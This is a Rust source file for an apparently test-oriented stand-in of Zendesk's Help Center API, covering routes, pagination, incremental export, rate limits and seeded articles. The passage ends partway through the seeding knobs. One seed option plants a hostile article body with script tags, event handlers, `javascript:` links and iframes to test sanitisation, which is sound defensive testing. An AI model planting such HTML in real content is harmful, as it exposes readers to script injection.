//! Zendesk Help Center (Guide) stand-in for knowledge-base import, served beside the
//! Support stand-in ([`super::zendesk`]) at `/{subdomain}.zendesk.com/api/v2/help_center/…`
//! and shaped as Zendesk's Help Center OpenAPI description
//! (`../shared/specs/zendesk/help-center-api-oas.yaml`: `ArticleObject`, `SectionObject`,
//! `CategoryObject`, `TranslationObject`, `LocalesWithDefaultResponse`) and, for what that
//! older description lacks (the incremental export, the unlocalised lists, pagination),
//! Zendesk's reference pages ("Articles", "Understanding incremental article exports",
//! "Pagination", "Rate limits"). One help centre per subdomain, kept in memory
//! ([`HelpCenterStore`]); a help desk nobody seeded has an empty one (`en-us` only).
//!
//! | Route name | Request (`GET`, `.json` suffix optional) | Answer |
//! |---|---|---|
//! | `zendesk.hc_incremental_articles` | `/api/v2/help_center/incremental/articles?start_time={epoch s}[&include=translations]` | `{articles, next_page, end_time, count}` |
//! | `zendesk.hc_articles` | `/api/v2/help_center[/{locale}]/articles` with `per_page`/`page` or `page[size]`/`page[after]`/`page[before]`, `sort_by`, `sort_order`, `label_names`, `include=translations` | offset: `{articles, page, previous_page, next_page, per_page, page_count, count, sort_by, sort_order}`; cursor: `{articles, meta:{has_more, after_cursor, before_cursor}, links:{next, prev}}` |
//! | `zendesk.hc_article` | `/api/v2/help_center[/{locale}]/articles/{id}[?include=translations]` | `{article}` |
//! | `zendesk.hc_sections` | `/api/v2/help_center[/{locale}]/sections` (paging as articles; `sort_by` `position`, `created_at`, `updated_at`) | `{sections, …}` |
//! | `zendesk.hc_categories` | `/api/v2/help_center[/{locale}]/categories` (likewise) | `{categories, …}` |
//! | `zendesk.hc_locales` | `/api/v2/help_center/locales` | `{locales, default_locale}` |
//!
//! Articles carry every `ArticleObject` member plus `name` (= `title`), as Zendesk sends
//! them: `id url html_url author_id comments_disabled draft promoted position vote_sum
//! vote_count section_id created_at updated_at name title source_locale locale outdated
//! outdated_locales edited_at user_segment_id user_segment_ids permission_group_id
//! content_tag_ids label_names body`; times are `2024-01-15T09:00:00Z`. `draft`, `title`,
//! `body` and `edited_at` are the shown translation's; `updated_at` is the article's
//! (bumped by any change to it or to any of its translations). `include=translations`
//! embeds `translations: [TranslationObject]` (every locale, drafts too) in each article.
//!
//! Auth, as the Support stand-in: an API token (`{email}/token:{token}` Basic; every
//! sandbox account is an admin, so an agent) or an OAuth bearer token of the subdomain with
//! `read` or `hc:read`, else 403 `{"error":"Forbidden","description":"You are missing the
//! following required scopes: read"}`; no or wrong credentials: 401 `{"error":"Couldn't
//! authenticate you"}`, a dead bearer 401 `invalid_token`. Agents see drafts, so every
//! list, show and the export includes them (`draft: true`).
//!
//! Incremental export (Zendesk: "returns any article that had any of its metadata change
//! after the start time"; "the `next_page` url … specifies a new start time, which is the
//! time of the last change of the last item on the current page. The response also records
//! this time as the `end_time`"; "use the end time of the previous export as the start time
//! for the next export" so as not to "skip articles or get the same articles again"):
//! - articles whose `updated_at` is **after** `start_time` (strictly), oldest first (ties by
//!   id), in their source locale, up to 1,000 a page; `end_time` is the last one's
//!   `updated_at`, `next_page` the same URL with `start_time={end_time}` while more remain,
//!   `null` on the last page; `count` is how many articles the export holds from this
//!   `start_time` (this page and the later ones).
//! - A page never splits a second: if the 1,000th article shares its second with the next
//!   ones, they all go on this page (Zendesk documents pages past 1,000 "if items share the
//!   same timestamp" for its time-based exports). Together with the strict `after`, a
//!   client resuming from `end_time` neither misses nor repeats an article.
//! - Only finished seconds are exported: an article changed in the current second appears
//!   from the next second on. Otherwise an article changed later within the second of
//!   `end_time` would be skipped by the next export. (Zendesk does not document a delay for
//!   this endpoint; its Support exports hold back the last minute.)
//! - Nothing to export (including a `start_time` now or in the future): 200
//!   `{"articles":[],"next_page":null,"end_time":null,"count":0}` (the Help Center answers
//!   nulls then, as client libraries report); the client keeps its previous `start_time`.
//! - `start_time` missing or not an integer: 400 `{"error":{"title":"Invalid
//!   attribute","message":"You passed an invalid value for the start_time attribute.
//!   Invalid parameter: start_time …"}}` (Zendesk's shape for a bad parameter).
//! - Drafts are exported (an unpublished article comes back with `draft: true`); archived
//!   articles are not, and nothing reports their archiving: Zendesk's export has no
//!   deletion records, so an importer learns of an archive only by a full listing (or a
//!   show answering 404). A restored article comes back with a new `updated_at`.
//!
//! Lists: agents may omit `{locale}`: the unlocalised lists show each article in its
//! source locale, sections and categories in the default locale; a `{locale}` list shows
//! only articles translated into it. An unknown or disabled locale: 404 `RecordNotFound`.
//! Offset pagination: `per_page` 1–100 (default 30; larger is cut to 100), `page` ≥ 1; past
//! the first 10,000 records (`page × per_page` > 10,000): 400
//! `{"errors":[{"code":"InvalidPaginationDepth",…}]}` as Zendesk answers since 2024. Cursor
//! pagination (`page[size]` 1–100, default 30; more, or a bad cursor: 400
//! `InvalidPaginationParameter`); cursors are opaque and survive changes to the list.
//! `sort_by` `position` (default), `title`, `created_at`, `updated_at`, `edited_at` (articles;
//! `title` and `edited_at` need a `{locale}`, as Zendesk documents), `sort_order` `asc`
//! (default) or `desc`; ties by id. Other values: 400 `Invalid attribute`. `label_names`:
//! up to 10, comma-separated, case-sensitive, all required.
//!
//! Show: an unknown, archived, or (with `{locale}`) untranslated article: 404
//! `{"error":"RecordNotFound","description":"Not found"}`. A non-numeric id is not a route
//! (Support's 404 `InvalidEndpoint`).
//!
//! Rate limit: Help Center requests of a subdomain share one budget, 700 a rolling minute by
//! default (Enterprise; [`SandboxState::hc_set_rate_limit`]), apart from the Support API's
//! (Zendesk: Help Center requests do not count against it). Every answer carries
//! `X-Rate-Limit` and `X-Rate-Limit-Remaining`; past the limit, or while a
//! [`SandboxState::hc_throttle_next`] storm lasts: 429 `text/plain` "Number of allowed API
//! requests per minute exceeded" with `Retry-After` (seconds) and `X-Rate-Limit-Remaining:
//! 0`. Requests are counted before they are authenticated. Forced faults and latency apply
//! before all of it, as on every route (Support's error bodies).
//!
//! State and knobs ([`SandboxState`]): [`SandboxState::seed_help_center`] (deterministic
//! content, see [`HelpCenterSeed`]), [`SandboxState::hc_update_article`],
//! [`SandboxState::hc_set_draft`], [`SandboxState::hc_archive_article`],
//! [`SandboxState::hc_restore_article`], [`SandboxState::hc_add_article`],
//! [`SandboxState::hc_articles`], [`SandboxState::hc_article`],
//! [`SandboxState::hc_set_rate_limit`], [`SandboxState::hc_throttle_next`], and the help
//! centre's clock ([`SandboxState::hc_now`], [`SandboxState::hc_set_clock`],
//! [`SandboxState::hc_advance_clock`]): the sandbox's wall clock (`crate::clock`) unless a
//! test freezes or shifts it, so changes land in a chosen second. Ids are per help centre,
//! so two subdomains may hold the same ids (real Zendesk ids are global): key imports by
//! subdomain.
//!
//! Not reproduced:
//! - every route: anonymous and end-user access (each answers 401 without credentials,
//!   where Zendesk serves anonymous users the public articles of the `{locale}` routes),
//!   user segments and permission groups limiting what an agent sees, Guide plans, content
//!   blocks, brands (one help centre per subdomain), `X-Rate-Limit` on fault answers.
//! - incremental export: the sideloads `users`, `sections`, `categories` (ignored), and
//!   `label_names`, `sort_by`, `per_page` (ignored; the export order is fixed); the
//!   minimum `start_time` some accounts enforce (earlier than the help centre: 502).
//! - lists: the sideloads (only `translations`), the lists by category, section or user
//!   (`…/sections/{id}/articles` etc.: 404 `InvalidEndpoint`), section-defined article
//!   order, `parent_section_id` nesting, whether Zendesk honours `sort_by` under cursor
//!   pagination (honoured here).
//! - show: sideloads other than `translations`; the redirect Zendesk may answer for an
//!   untranslated locale.
//! - writes (create, update, archive, translations, votes, subscriptions, attachments):
//!   only through the [`SandboxState`] knobs; the article search, labels, user segments,
//!   community routes.

// The error of most helpers here is the finished response.
#![allow(clippy::result_large_err)]

use std::cmp::Ordering;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::time::{Duration, Instant};

use axum::http::header::RETRY_AFTER;
use axum::http::{HeaderValue, Method, StatusCode};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

use super::ProviderRequest;
use super::zendesk as support;
use crate::clock;
use crate::ratelimit::{Policy, Usage, Verdict};
use crate::state::{ProviderAccount, SandboxState};
use crate::wire;

/// Route name of `GET /api/v2/help_center/incremental/articles`.
pub const HC_INCREMENTAL_ARTICLES: &str = "zendesk.hc_incremental_articles";
/// Route name of `GET /api/v2/help_center[/{locale}]/articles`.
pub const HC_ARTICLES: &str = "zendesk.hc_articles";
/// Route name of `GET /api/v2/help_center[/{locale}]/articles/{id}`.
pub const HC_ARTICLE: &str = "zendesk.hc_article";
/// Route name of `GET /api/v2/help_center[/{locale}]/sections`.
pub const HC_SECTIONS: &str = "zendesk.hc_sections";
/// Route name of `GET /api/v2/help_center[/{locale}]/categories`.
pub const HC_CATEGORIES: &str = "zendesk.hc_categories";
/// Route name of `GET /api/v2/help_center/locales`.
pub const HC_LOCALES: &str = "zendesk.hc_locales";

/// Articles per incremental export page (more only when they share the last second).
pub const INCREMENTAL_PAGE_SIZE: usize = 1_000;
/// The largest `per_page` and `page[size]`.
pub const MAX_PER_PAGE: u64 = 100;
/// `per_page` and `page[size]` when not given (Zendesk: 30 for articles).
pub const DEFAULT_PER_PAGE: u64 = 30;
/// How deep offset pagination reaches (`page × per_page`).
pub const OFFSET_RECORD_LIMIT: u64 = 10_000;
/// Help Center requests a subdomain may make per rolling minute by default (Zendesk
/// Enterprise; Team 200, Growth and Professional 400, Enterprise Plus or the High Volume
/// add-on 2,500).
pub const DEFAULT_REQUESTS_PER_MINUTE: u64 = 700;
/// The `text/plain` body of Zendesk's 429 for the per-minute limit.
pub const RATE_LIMIT_BODY: &str = "Number of allowed API requests per minute exceeded";
/// DynamoDB's item size limit: the seed's large article body is over it.
pub const DYNAMODB_ITEM_LIMIT: usize = 400 * 1024;

const MAX_LABEL_NAMES: usize = 10;
const READ_SCOPES: [&str; 2] = ["read", "hc:read"];
const LIMIT_POLICY: &str = "HELP_CENTER_PER_MINUTE";
const DEFAULT_LOCALE: &str = "en-us";
const DEFAULT_AUTHOR_ID: u64 = 123;
const FIRST_CATEGORY_ID: u64 = 360_000_100_001;
const FIRST_SECTION_ID: u64 = 360_000_200_001;
const FIRST_ARTICLE_ID: u64 = 360_001_000_001;
const FIRST_TRANSLATION_ID: u64 = 360_002_000_001;
const FIRST_ATTACHMENT_ID: u64 = 360_003_000_001;
const PERMISSION_GROUP_ID: u64 = 360_000_005_001;
const AGENTS_SEGMENT_ID: u64 = 360_000_006_001;
/// 2024-01-01T00:00:00Z: seeded content is created from here on.
const SEED_EPOCH: i64 = 1_704_067_200;
/// The seeded large article's body is at least this long.
const LARGE_BODY_BYTES: usize = 460 * 1024;

/// A Help Center route.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum HcRoute {
    /// `/api/v2/help_center/incremental/articles`.
    IncrementalArticles,
    /// `/api/v2/help_center[/{locale}]/articles`.
    Articles,
    /// `/api/v2/help_center[/{locale}]/articles/{id}`.
    Article,
    /// `/api/v2/help_center[/{locale}]/sections`.
    Sections,
    /// `/api/v2/help_center[/{locale}]/categories`.
    Categories,
    /// `/api/v2/help_center/locales`.
    Locales,
}

impl HcRoute {
    /// The route's counter name.
    pub(crate) fn name(self) -> &'static str {
        match self {
            HcRoute::IncrementalArticles => HC_INCREMENTAL_ARTICLES,
            HcRoute::Articles => HC_ARTICLES,
            HcRoute::Article => HC_ARTICLE,
            HcRoute::Sections => HC_SECTIONS,
            HcRoute::Categories => HC_CATEGORIES,
            HcRoute::Locales => HC_LOCALES,
        }
    }
}

/// A Help Center path, split: the route, its `{locale}` and its `{id}`.
#[derive(Debug, PartialEq, Eq)]
struct HcPath<'a> {
    route: HcRoute,
    locale: Option<&'a str>,
    id: Option<u64>,
}

/// Matches a `GET` to a Help Center route.
pub(crate) fn route(req: &ProviderRequest) -> Option<HcRoute> {
    if req.method != Method::GET {
        return None;
    }
    parse_path(&req.path).map(|p| p.route)
}

fn parse_path(path: &str) -> Option<HcPath<'_>> {
    let rest = path.strip_prefix("/api/v2/help_center/")?;
    let rest = rest.strip_suffix(".json").unwrap_or(rest);
    let parts: Vec<&str> = rest.split('/').collect();
    let plain = |route| {
        Some(HcPath {
            route,
            locale: None,
            id: None,
        })
    };
    match parts.as_slice() {
        ["incremental", "articles"] => plain(HcRoute::IncrementalArticles),
        ["locales"] => plain(HcRoute::Locales),
        ["articles"] => plain(HcRoute::Articles),
        ["sections"] => plain(HcRoute::Sections),
        ["categories"] => plain(HcRoute::Categories),
        ["articles", id] => Some(HcPath {
            route: HcRoute::Article,
            locale: None,
            id: Some(numeric_id(id)?),
        }),
        [locale, kind] if locale_segment(locale) => {
            let route = match *kind {
                "articles" => HcRoute::Articles,
                "sections" => HcRoute::Sections,
                "categories" => HcRoute::Categories,
                _ => return None,
            };
            Some(HcPath {
                route,
                locale: Some(*locale),
                id: None,
            })
        }
        [locale, "articles", id] if locale_segment(locale) => Some(HcPath {
            route: HcRoute::Article,
            locale: Some(*locale),
            id: Some(numeric_id(id)?),
        }),
        _ => None,
    }
}

/// A path id: decimal digits only.
fn numeric_id(raw: &str) -> Option<u64> {
    if raw.is_empty() || raw.len() > 20 || !raw.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    raw.parse().ok()
}

/// Whether a path segment can be a locale (`en-us`, `de`, `pt-br`, `es-419`), not one of
/// the Help Center's own words.
fn locale_segment(raw: &str) -> bool {
    const RESERVED: [&str; 13] = [
        "articles",
        "sections",
        "categories",
        "locales",
        "incremental",
        "translations",
        "users",
        "votes",
        "user_segments",
        "sessions",
        "community_posts",
        "topics",
        "posts",
    ];
    (2..=12).contains(&raw.len())
        && raw.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
        && raw.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && !RESERVED.contains(&raw)
}

// ---------------------------------------------------------------------------------------
// Public content types
// ---------------------------------------------------------------------------------------

/// What [`SandboxState::seed_help_center`] puts in a help centre. Deterministic: the same
/// seed gives the same ids, texts and times (created from 2024-01-01; `updated_at` about
/// two articles a second over a window after all creations, in an order unrelated to the
/// ids; every time in the past). As JSON every member is optional.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct HelpCenterSeed {
    /// Articles, the large and the hostile one included (default 200).
    pub articles: usize,
    /// Categories (at least 1; default 4).
    pub categories: usize,
    /// Sections in each category (at least 1; default 3).
    pub sections_per_category: usize,
    /// The help centre's default locale, every article's source locale (default `en-us`).
    pub default_locale: String,
    /// Other enabled locales (default `de`, `fr`); German and French get German and French
    /// texts, others English ones marked with the locale.
    pub translation_locales: Vec<String>,
    /// Share of articles translated into every other locale, in percent (default 30).
    pub translated_percent: u8,
    /// Share of articles that are drafts in every locale, in percent (default 10).
    pub draft_percent: u8,
    /// Make the first article's body larger than [`DYNAMODB_ITEM_LIMIT`] (about 460 KB).
    pub large_article: bool,
    /// Make one article's body hostile: a `<script>`, an `onerror=` handler, `javascript:`
    /// links, an `<iframe>`, an `onmouseover=` and a form, among ordinary paragraphs.
    pub hostile_article: bool,
    /// The first this many articles share one `updated_at` second (a bulk import), so an
    /// export page must grow past 1,000 to keep the second whole (default 0).
    pub same_second_burst: usize,
}

impl Default for HelpCenterSeed {
    fn default() -> Self {
        Self {
            articles: 200,
            categories: 4,
            sections_per_category: 3,
            default_locale: DEFAULT_LOCALE.to_owned(),
            translation_locales: vec!["de".to_owned(), "fr".to_owned()],
            translated_percent: 30,
            draft_percent: 10,
            large_article: false,
            hostile_article: false,
            same_second_burst: 0,
        }
    }
}

/// What a seeded help centre holds.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct HelpCenterSummary {
    /// The subdomain, lower-cased.
    pub subdomain: String,
    /// The default locale.
    pub default_locale: String,
    /// Every enabled locale, sorted.
    pub locales: Vec<String>,
    /// Category ids, in position order.
    pub category_ids: Vec<u64>,
    /// Section ids, in creation order.
    pub section_ids: Vec<u64>,
    /// Article ids, ascending.
    pub article_ids: Vec<u64>,
    /// Translations of all articles, source translations included.
    pub translations: usize,
    /// Articles that are drafts.
    pub drafts: usize,
    /// The article whose body is over [`DYNAMODB_ITEM_LIMIT`], if asked for.
    pub large_article_id: Option<u64>,
    /// The article with hostile HTML, if asked for.
    pub hostile_article_id: Option<u64>,
    /// The earliest article `updated_at` (epoch seconds).
    pub oldest_updated_at: Option<i64>,
    /// The latest article `updated_at` (epoch seconds).
    pub newest_updated_at: Option<i64>,
}

/// A Help Center article as the stand-in keeps it (times in epoch seconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct HcArticle {
    /// Article id.
    pub id: u64,
    /// Its section.
    pub section_id: u64,
    /// Its author (the subdomain's account, 123 by default).
    pub author_id: u64,
    /// Who may edit it.
    pub permission_group_id: u64,
    /// Who may see it (`None`: everyone; some seeded articles are agents-only).
    pub user_segment_id: Option<u64>,
    /// Position in its section.
    pub position: i64,
    /// Promoted.
    pub promoted: bool,
    /// Comments disabled.
    pub comments_disabled: bool,
    /// Up-votes minus down-votes.
    pub vote_sum: i64,
    /// Votes.
    pub vote_count: u64,
    /// Labels, in order.
    pub label_names: Vec<String>,
    /// The source locale.
    pub source_locale: String,
    /// Created.
    pub created_at: i64,
    /// Last change to the article or any of its translations.
    pub updated_at: i64,
    /// Archived: gone from every route.
    pub archived: bool,
    /// Its translations, the source locale's first, then by locale.
    pub translations: Vec<HcTranslation>,
}

impl HcArticle {
    /// The translation into `locale`, if any.
    pub fn translation(&self, locale: &str) -> Option<&HcTranslation> {
        self.translations.iter().find(|t| t.locale == locale)
    }

    /// The source locale's translation.
    pub fn source(&self) -> Option<&HcTranslation> {
        self.translation(&self.source_locale)
    }

    /// Whether the source translation is a draft.
    pub fn draft(&self) -> bool {
        self.source().is_some_and(|t| t.draft)
    }

    fn sort_translations(&mut self) {
        let source = &self.source_locale;
        self.translations.sort_by(|a, b| {
            (a.locale != *source)
                .cmp(&(b.locale != *source))
                .then_with(|| a.locale.cmp(&b.locale))
        });
    }
}

/// One locale of an article (times in epoch seconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct HcTranslation {
    /// Translation id.
    pub id: u64,
    /// Its locale.
    pub locale: String,
    /// Title.
    pub title: String,
    /// HTML body.
    pub body: String,
    /// Unpublished in this locale.
    pub draft: bool,
    /// Created.
    pub created_at: i64,
    /// Last change.
    pub updated_at: i64,
    /// Last change to its title or body.
    pub edited_at: i64,
}

/// A change to an article, as an agent would make it in Guide
/// ([`SandboxState::hc_update_article`]).
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct HcArticleChange {
    /// The translation to change (`None`: the source locale). An enabled locale the article
    /// lacks gets a new translation (title and body from the source unless given).
    pub locale: Option<String>,
    /// New title.
    pub title: Option<String>,
    /// New HTML body.
    pub body: Option<String>,
    /// New labels.
    pub label_names: Option<Vec<String>>,
}

/// A new article ([`SandboxState::hc_add_article`]).
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct HcNewArticle {
    /// Its section (`None`: the first one; a help centre without sections gets a "General"
    /// category and section).
    pub section_id: Option<u64>,
    /// Its source locale (`None`: the default locale); must be enabled.
    pub locale: Option<String>,
    /// Title (must not be blank).
    pub title: String,
    /// HTML body.
    pub body: String,
    /// Created as a draft.
    pub draft: bool,
    /// Labels.
    pub label_names: Vec<String>,
}

// ---------------------------------------------------------------------------------------
// Store
// ---------------------------------------------------------------------------------------

/// Every subdomain's help centre and Help Center knobs.
#[derive(Debug, Default)]
pub struct HelpCenterStore {
    centres: BTreeMap<String, Centre>,
    knobs: BTreeMap<String, Knobs>,
}

/// Per-subdomain knobs; they outlive reseeding.
#[derive(Clone, Copy, Debug)]
struct Knobs {
    per_minute: u64,
    throttle_left: u32,
    throttle_retry_after: u64,
    clock_offset: i64,
    frozen_at: Option<i64>,
}

impl Default for Knobs {
    fn default() -> Self {
        Self {
            per_minute: DEFAULT_REQUESTS_PER_MINUTE,
            throttle_left: 0,
            throttle_retry_after: 1,
            clock_offset: 0,
            frozen_at: None,
        }
    }
}

impl HelpCenterStore {
    fn knobs(&self, sub: &str) -> Knobs {
        self.knobs.get(sub).copied().unwrap_or_default()
    }

    fn knobs_mut(&mut self, sub: &str) -> &mut Knobs {
        self.knobs.entry(sub.to_owned()).or_default()
    }

    /// The help centre's clock, epoch seconds.
    fn now(&self, sub: &str) -> i64 {
        let knobs = self.knobs(sub);
        knobs
            .frozen_at
            .unwrap_or_else(|| clock::now_ms().div_euclid(1000) + knobs.clock_offset)
    }
}

/// One subdomain's help centre.
#[derive(Clone, Debug)]
struct Centre {
    default_locale: String,
    /// Enabled locales, sorted.
    locales: Vec<String>,
    categories: Vec<Category>,
    sections: Vec<Section>,
    articles: BTreeMap<u64, HcArticle>,
    next_article_id: u64,
    next_translation_id: u64,
    author_id: u64,
}

/// A category or section's name and description per locale.
type Texts = BTreeMap<String, (String, String)>;

#[derive(Clone, Debug)]
struct Category {
    id: u64,
    position: i64,
    created_at: i64,
    updated_at: i64,
    texts: Texts,
}

#[derive(Clone, Debug)]
struct Section {
    id: u64,
    category_id: u64,
    position: i64,
    created_at: i64,
    updated_at: i64,
    texts: Texts,
}

impl Centre {
    fn empty(author_id: u64) -> Self {
        Self {
            default_locale: DEFAULT_LOCALE.to_owned(),
            locales: vec![DEFAULT_LOCALE.to_owned()],
            categories: Vec::new(),
            sections: Vec::new(),
            articles: BTreeMap::new(),
            next_article_id: FIRST_ARTICLE_ID,
            next_translation_id: FIRST_TRANSLATION_ID,
            author_id,
        }
    }

    /// `name` and description in `locale`, falling back to the default locale's.
    fn text<'a>(&self, texts: &'a Texts, locale: &str) -> (&'a str, &'a str) {
        texts
            .get(locale)
            .or_else(|| texts.get(&self.default_locale))
            .or_else(|| texts.values().next())
            .map_or(("", ""), |(n, d)| (n.as_str(), d.as_str()))
    }

    fn summary(&self, sub: &str, large: Option<u64>, hostile: Option<u64>) -> HelpCenterSummary {
        let live = self.articles.values().filter(|a| !a.archived);
        HelpCenterSummary {
            subdomain: sub.to_owned(),
            default_locale: self.default_locale.clone(),
            locales: self.locales.clone(),
            category_ids: self.categories.iter().map(|c| c.id).collect(),
            section_ids: self.sections.iter().map(|s| s.id).collect(),
            article_ids: self.articles.keys().copied().collect(),
            translations: live.clone().map(|a| a.translations.len()).sum(),
            drafts: live.clone().filter(|a| a.draft()).count(),
            large_article_id: large,
            hostile_article_id: hostile,
            oldest_updated_at: live.clone().map(|a| a.updated_at).min(),
            newest_updated_at: live.map(|a| a.updated_at).max(),
        }
    }

    /// Every enabled locale's text for a new category or section.
    fn texts_for(&self, name: &str, description: &str) -> Texts {
        self.locales
            .iter()
            .map(|l| (l.clone(), (name.to_owned(), description.to_owned())))
            .collect()
    }

    fn update(&mut self, id: u64, change: HcArticleChange, now: i64) -> Option<HcArticle> {
        let locale = match change.locale {
            Some(l) => l.trim().to_ascii_lowercase(),
            None => self.articles.get(&id)?.source_locale.clone(),
        };
        if !self.locales.contains(&locale) {
            return None;
        }
        let next_translation_id = self.next_translation_id;
        let article = self.articles.get_mut(&id).filter(|a| !a.archived)?;
        let mut created = false;
        if article.translation(&locale).is_none() {
            let (title, body, draft) = article
                .source()
                .map(|s| (s.title.clone(), s.body.clone(), s.draft))
                .unwrap_or_default();
            article.translations.push(HcTranslation {
                id: next_translation_id,
                locale: locale.clone(),
                title,
                body,
                draft,
                created_at: now,
                updated_at: now,
                edited_at: now,
            });
            created = true;
        }
        let translation = article
            .translations
            .iter_mut()
            .find(|t| t.locale == locale)?;
        if let Some(title) = change.title {
            translation.title = title;
            translation.edited_at = now;
        }
        if let Some(body) = change.body {
            translation.body = body;
            translation.edited_at = now;
        }
        translation.updated_at = now;
        if let Some(labels) = change.label_names {
            article.label_names = labels;
        }
        article.updated_at = now;
        article.sort_translations();
        let out = article.clone();
        if created {
            self.next_translation_id += 1;
        }
        Some(out)
    }

    fn add(&mut self, new: HcNewArticle, now: i64) -> Option<HcArticle> {
        let title = new.title.trim().to_owned();
        if title.is_empty() {
            return None;
        }
        let locale = match new.locale {
            Some(l) => l.trim().to_ascii_lowercase(),
            None => self.default_locale.clone(),
        };
        if !self.locales.contains(&locale) {
            return None;
        }
        if self.sections.is_empty() {
            let category_id = FIRST_CATEGORY_ID + self.categories.len() as u64;
            let texts = self.texts_for("General", "Everything else.");
            self.categories.push(Category {
                id: category_id,
                position: self.categories.len() as i64,
                created_at: now,
                updated_at: now,
                texts: texts.clone(),
            });
            self.sections.push(Section {
                id: FIRST_SECTION_ID,
                category_id,
                position: 0,
                created_at: now,
                updated_at: now,
                texts,
            });
        }
        let section_id = match new.section_id {
            Some(id) => self.sections.iter().find(|s| s.id == id)?.id,
            None => self.sections.first()?.id,
        };
        let position = self
            .articles
            .values()
            .filter(|a| a.section_id == section_id)
            .count() as i64;
        let id = self.next_article_id;
        let translation_id = self.next_translation_id;
        self.next_article_id += 1;
        self.next_translation_id += 1;
        let article = HcArticle {
            id,
            section_id,
            author_id: self.author_id,
            permission_group_id: PERMISSION_GROUP_ID,
            user_segment_id: None,
            position,
            promoted: false,
            comments_disabled: false,
            vote_sum: 0,
            vote_count: 0,
            label_names: new.label_names,
            source_locale: locale.clone(),
            created_at: now,
            updated_at: now,
            archived: false,
            translations: vec![HcTranslation {
                id: translation_id,
                locale,
                title,
                body: new.body,
                draft: new.draft,
                created_at: now,
                updated_at: now,
                edited_at: now,
            }],
        };
        self.articles.insert(id, article.clone());
        Some(article)
    }
}

fn normalise_sub(raw: &str) -> String {
    crate::state::dns_label(raw).unwrap_or_else(|| raw.trim().to_ascii_lowercase())
}

// ---------------------------------------------------------------------------------------
// The public knobs
// ---------------------------------------------------------------------------------------

/// Help Center content and knobs, for tests and benchmarks.
impl SandboxState {
    /// Replaces the help centre of `subdomain` with seeded content (see
    /// [`HelpCenterSeed`]): categories → sections → articles in the default locale,
    /// translations into the other locales for a share of them, a share of drafts, labels,
    /// HTML bodies of a few KB (headings, paragraphs, lists, an image, internal and external
    /// links, sometimes a code block), optionally a body over 400 KB and a hostile one.
    /// 10,000 articles take a fraction of a second. Knobs (rate limit, storm, clock) are
    /// kept. The subdomain still needs a Zendesk account (or OAuth user) to be served.
    pub fn seed_help_center(&self, subdomain: &str, seed: HelpCenterSeed) -> HelpCenterSummary {
        let sub = normalise_sub(subdomain);
        let author_id = self.hc_author(&sub);
        let (centre, large, hostile) = build_centre(&sub, &seed, author_id);
        let summary = centre.summary(&sub, large, hostile);
        self.zendesk_hc_store().centres.insert(sub, centre);
        summary
    }

    /// Changes an article (or one of its translations) as an agent would: the given title,
    /// body and labels, stamping the translation's `updated_at` (and `edited_at` for a new
    /// title or body) and the article's `updated_at` with the help centre's clock. `None`
    /// for an unknown or archived article or a locale that is not enabled.
    pub fn hc_update_article(
        &self,
        subdomain: &str,
        id: u64,
        change: HcArticleChange,
    ) -> Option<HcArticle> {
        self.with_centre(subdomain, |centre, now| centre.update(id, change, now))
            .flatten()
    }

    /// Publishes (`false`) or unpublishes (`true`) every translation of an article, bumping
    /// its `updated_at`: the export reports it with the new `draft`. `None` for an unknown
    /// or archived article.
    pub fn hc_set_draft(&self, subdomain: &str, id: u64, draft: bool) -> Option<HcArticle> {
        self.with_centre(subdomain, |centre, now| {
            let article = centre.articles.get_mut(&id).filter(|a| !a.archived)?;
            for translation in &mut article.translations {
                translation.draft = draft;
                translation.updated_at = now;
            }
            article.updated_at = now;
            Some(article.clone())
        })
        .flatten()
    }

    /// Archives an article: it leaves every list, show (404) and the export, which reports
    /// nothing about it. `false` when there is no such live article.
    pub fn hc_archive_article(&self, subdomain: &str, id: u64) -> bool {
        self.set_archived(subdomain, id, true)
    }

    /// Restores an archived article: it is back everywhere, with a new `updated_at`.
    /// `false` when there is no such archived article.
    pub fn hc_restore_article(&self, subdomain: &str, id: u64) -> bool {
        self.set_archived(subdomain, id, false)
    }

    fn set_archived(&self, subdomain: &str, id: u64, archived: bool) -> bool {
        self.with_centre(subdomain, |centre, now| {
            match centre.articles.get_mut(&id) {
                Some(article) if article.archived != archived => {
                    article.archived = archived;
                    article.updated_at = now;
                    true
                }
                _ => false,
            }
        })
        .unwrap_or(false)
    }

    /// Adds an article, created and updated now (the help centre's clock). `None` when the
    /// title is blank, the section unknown or the locale not enabled.
    pub fn hc_add_article(&self, subdomain: &str, article: HcNewArticle) -> Option<HcArticle> {
        let sub = normalise_sub(subdomain);
        let author_id = self.hc_author(&sub);
        let mut store = self.zendesk_hc_store();
        let now = store.now(&sub);
        store
            .centres
            .entry(sub)
            .or_insert_with(|| Centre::empty(author_id))
            .add(article, now)
    }

    /// Every article of the help centre (archived ones too), by id.
    pub fn hc_articles(&self, subdomain: &str) -> Vec<HcArticle> {
        let sub = normalise_sub(subdomain);
        self.zendesk_hc_store()
            .centres
            .get(&sub)
            .map(|c| c.articles.values().cloned().collect())
            .unwrap_or_default()
    }

    /// One article (archived or not).
    pub fn hc_article(&self, subdomain: &str, id: u64) -> Option<HcArticle> {
        let sub = normalise_sub(subdomain);
        self.zendesk_hc_store()
            .centres
            .get(&sub)?
            .articles
            .get(&id)
            .cloned()
    }

    /// Help Center requests `subdomain` may make per rolling minute (at least 1; default
    /// [`DEFAULT_REQUESTS_PER_MINUTE`]).
    pub fn hc_set_rate_limit(&self, subdomain: &str, per_minute: u64) {
        let sub = normalise_sub(subdomain);
        self.zendesk_hc_store().knobs_mut(&sub).per_minute = per_minute.max(1);
    }

    /// The next `count` Help Center requests of `subdomain` answer 429 with `Retry-After:
    /// retry_after_secs` (at least 1), whatever the budget: a 429 storm.
